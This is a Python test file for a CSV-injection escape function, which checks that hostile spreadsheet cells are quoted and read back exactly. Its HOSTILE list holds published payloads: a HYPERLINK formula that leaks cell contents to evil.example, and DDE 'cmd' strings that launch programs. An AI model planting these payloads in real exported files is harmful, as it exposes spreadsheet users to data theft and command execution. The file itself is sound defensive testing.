"""The one CSV-injection escape (trawl/csv_cells.py): hostile cells are written as text a
spreadsheet will not run, through the real csv module, and read back exactly."""

from __future__ import annotations

import csv
import io

import pytest

from trawl.csv_cells import csv_cell, read_csv_cell

# Payloads of the kind published for CSV injection (OWASP's list and its usual variants).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_quoted_and_reads_back(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value
    assert read_csv_cell(cell) == value


@pytest.mark.parametrize("value", ["'=1+1", "'", "''", "'plain"])
def test_a_leading_apostrophe_is_escaped_too_so_the_escape_is_reversible(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value and read_csv_cell(cell) == value


@pytest.mark.parametrize("value", ["plain", "a=b", "2024-05-01", "e-mail", "", " =1+1",
                                   "x@example.org", "100%", "élan"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value and read_csv_cell(value) == value


def test_none_is_empty_and_numbers_stay_numbers() -> None:
    assert csv_cell(None) == ""
    assert [csv_cell(v) for v in (-5, 3, -0.5, 1e20, True)] == ["-5", "3", "-0.5", "1e+20",
                                                               "True"]
    assert csv_cell(b"=bytes") == "b'=bytes'"  # not a formula once it is text


def test_a_whole_file_through_the_csv_module_round_trips() -> None:
    values = [*HOSTILE, "'quoted", "plain, with \"quotes\"", "line1\nline2", ""]
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in values])
    text = out.getvalue()
    (row,) = csv.reader(io.StringIO(text, newline=""))
    # No cell a spreadsheet would evaluate: each starts with a quote or with plain text.
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert [read_csv_cell(cell) for cell in row] == values
